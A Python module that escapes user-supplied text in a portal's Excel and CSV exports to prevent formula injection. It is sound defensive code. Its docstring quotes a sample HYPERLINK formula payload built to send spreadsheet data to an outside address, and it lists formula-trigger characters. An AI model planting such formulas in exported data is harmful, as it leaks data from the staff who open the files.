"""Text that enterprises type, written into Excel and CSV exports as text, never as a formula.

Every export (全省案例汇总, 附件4/5/6, WeChat names, the programme, the dashboard, the archive's
CSVs, the audit log) carries text someone outside the province typed: a case title, a contact
name, a unit name. Staff open these files in Excel or WPS, so such text must not run there
(formula injection, "CSV injection"):

- openpyxl stores any str of two or more characters starting with "=" as a formula (`<f>`), and
  one spelling an error code ("#N/A", …) as an error cell. `=HYPERLINK("http://…?"&A1,"详情")` as a
  case title would become a live link sending the sheet's data away. `xlsx_row` and `xlsx_cell`
  keep such a str a plain text cell (data type "s", written as an inline string, format "@") with
  its exact characters. Text starting with + - @ is already stored as text in a workbook, and
  numbers, dates and other text are left to openpyxl as before.
- A CSV has no cell types: Excel and WPS run a field starting with = + - @ as a formula; the OWASP
  guidance on CSV injection adds tab and carriage return (and we line feed) as starts to treat
  alike. `csv_value` prefixes such a field with a single quote, as that guidance advises; the
  reader sees the quote, and nothing runs. Numbers are not text and stay as they are, so a negative number is
  still a number.

Every spreadsheet the portal writes goes through these functions (review.closing.common's
csv_bytes / xlsx_bytes, the province's exports, 附件4/5/6); a new export must too. Only the
directory-import template (cases.importing_template) writes cells directly: it holds nothing but our own
text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from openpyxl.cell.cell import Cell, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# The characters that make Excel or WPS read a CSV field as a formula (OWASP "CSV Injection").
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
CSV_ESCAPE = "'"


def _plain(value: Any) -> Any:
    # A lazy translation (gettext_lazy) is text; openpyxl cannot store it and csv would str() it late.
    return str(value) if isinstance(value, Promise) else value


def keep_text(cell: Cell) -> Cell:
    """`cell` as a text cell if it was given a str that openpyxl read as a formula or error code.

    The text format ("@") keeps it text even when someone later edits the cell in Excel."""
    if isinstance(cell.value, str) and cell.data_type != "s":
        cell.data_type = "s"
        cell.number_format = "@"
    return cell


def xlsx_row(worksheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """`values` ready for `worksheet.append`, in a write-only or a normal workbook: a str openpyxl
    would store as a formula or error code becomes a text cell of this worksheet; the rest is
    unchanged (numbers stay numbers, dates dates)."""
    row = []
    for value in values:
        value = _plain(value)
        if isinstance(value, str):
            cell = WriteOnlyCell(worksheet, value)
            if cell.data_type != "s":
                value = keep_text(cell)
        row.append(value)
    return row


def xlsx_cell(worksheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """`worksheet.cell(row, column, value)` for a normal worksheet, a str always kept as text."""
    return keep_text(worksheet.cell(row, column, _plain(value)))


def csv_value(value: Any) -> Any:
    """One CSV field: text Excel or WPS would run as a formula gets a leading single quote."""
    value = _plain(value)
    if isinstance(value, str) and value.startswith(CSV_FORMULA_STARTS):
        return CSV_ESCAPE + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(value) for value in values]

